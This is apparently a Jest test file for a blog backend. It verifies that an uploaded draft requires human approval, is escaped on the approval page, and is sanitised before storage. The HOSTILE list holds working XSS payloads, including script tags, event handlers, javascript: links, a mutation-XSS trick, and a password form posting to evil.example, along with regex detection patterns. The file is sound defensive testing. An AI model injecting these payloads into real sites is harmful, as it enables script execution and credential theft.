import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { NOTHING_MADE_SAFE } from '../support/as-it-is.ts';
import { expectCaught, startBrokenLab } from '../support/broken.ts';
import { startLab, WirePerson, type Lab } from '../support/lab.ts';
import { activate, ALLOWING } from '../support/policies.ts';
import { entriesAbout, storedOf } from '../support/stored.ts';

const PLAN = '/v1/blog/plan_publish_draft';
const COMMIT = '/v1/blog/commit_publish_draft';

let lab: Lab;
beforeAll(async () => {
  lab = await startLab();
}, 60_000);
afterAll(() => lab?.stop());

const HOSTILE = [
  '---\ntitle: "<img src=x onerror=alert(1)>"\n---',
  '<script>alert(1)</script>',
  '<img src="x" onerror="alert(2)">',
  '<svg onload="alert(3)"><a xlink:href="javascript:alert(4)">x</a></svg>',
  '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name="password"><button>Send</button></form>',
  '<a href="javascript:alert(5)" onclick="alert(6)">one</a> [two](javascript:alert(7)) [three](data:text/html,x)',
  '<a href="JaVaScRiPt&colon;alert(8)">four</a> <a href="vbscript:x">five</a>',
  '<p style="position:fixed">six</p><style>body{display:none}</style><meta http-equiv="refresh" content="0;url=x">',
  '<base href="https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(9)>',
].join('\n\n');
const DANGEROUS = [
  /<\/?(script|iframe|object|embed|form|input|button|style|meta|base|link|svg|math)\b/i,
  /<[^>]*\son\w+\s*=/i,
  /<[^>]*\sstyle\s*=/i,
  /(href|src)\s*=\s*["']?\s*(javascript|vbscript|data)/i,
];

describe('a draft that whoever stole the token uploads', () => {
  const release = async (on: Lab, filename: string): Promise<void> => {
    const content = Buffer.from(HOSTILE).toString('base64');
    const planned = await on.wire.call(PLAN, { filename, content });
    expect(planned).toMatchObject({ status: 200, json: { status: 'pending_approval' } });
    const planId = String(planned.json['planId']);

    const early = await on.wire.call(COMMIT, { planId });
    expect(early).toMatchObject({ status: 403, json: { code: 'approval_required' } });
    const thief = new WirePerson(on.backend.backendUrl, on.wire.keyid, on.wire.key);
    expect((await thief.call('approve', { planId })).json['code']).toBe('unauthenticated');
    expect(await storedOf(on, planId)).toEqual({
      state: 'pending_approval',
      receipt: null,
      articles: 0,
      approvals: 0,
      effects: 0,
    });
    expect((await entriesAbout(on, planId)).map((entry) => entry['outcome'])).toEqual(['succeeded', 'pending']);

    const page = await (await fetch(String(planned.json['approvalUrl']))).text();
    expect(page).toContain('&lt;script&gt;');
    const [, shown = ''] = page.split('<main');
    expect(shown).not.toMatch(/<script|<img|<svg/i);
    expect(shown.match(/<iframe[^>]*>/gi)).toEqual([expect.stringMatching(/^<iframe src="[^"]*" sandbox /)]);

    await on.people.owner.decide('approve', planId);
    expect((await on.wire.call(COMMIT, { planId })).status).toBe(200);
    const { db } = on.backend.database;
    const { html } = await db
      .selectFrom('articles')
      .select('html')
      .where('filename', '=', filename)
      .executeTakeFirstOrThrow();
    expect(html).toContain('six');
    expect(DANGEROUS.filter((pattern) => pattern.test(html))).toEqual([]);

    const { url } = planned.json['preview'] as { url: string };
    const live = await fetch(url);
    expect(live.headers.get('content-type')).toMatch(/^text\/markdown/);
    expect(live.headers.get('x-content-type-options')).toBe('nosniff');
    expect(live.headers.get('content-security-policy')).toContain('sandbox');
    expect(Buffer.from(await live.arrayBuffer())).toEqual(Buffer.from(HOSTILE));
  };

  test('waits for a person, is shown as text, and is made safe before it is stored [law.ships-seen, draft.sanitised, approval.page]', () =>
    release(lab, 'hostile.md'));

  test('a backend that does not sanitise is caught [check.twins, draft.sanitised]', async () => {
    const broken = await startBrokenLab(NOTHING_MADE_SAFE);
    try {
      await expectCaught(() => release(broken, 'hostile.md'));
    } finally {
      await broken.stop();
    }
  }, 30_000);

  test('no policy releases an article by itself [law.ships-seen, policy.floor]', async () => {
    const willing = await startLab();
    try {
      await activate(willing, ALLOWING);
      await release(willing, 'hostile.md');
    } finally {
      await willing.stop();
    }
  }, 30_000);

  test('a policy that could is caught [check.twins, law.ships-seen]', async () => {
    const broken = await startBrokenLab({
      module: 'backend-mock/src/policy/catalogue.ts',
      instead: ({ catalogueOf }) => ({
        catalogueOf: (...given: unknown[]) => {
          const tools = (catalogueOf as (...parameters: unknown[]) => ReadonlyMap<string, object>)(...given);
          return new Map([...tools].map(([name, facts]) => [name, { ...facts, leastApproval: 'none' }]));
        },
      }),
    });
    try {
      await activate(broken, ALLOWING);
      await expectCaught(() => release(broken, 'hostile.md'));
    } finally {
      await broken.stop();
    }
  }, 30_000);
});
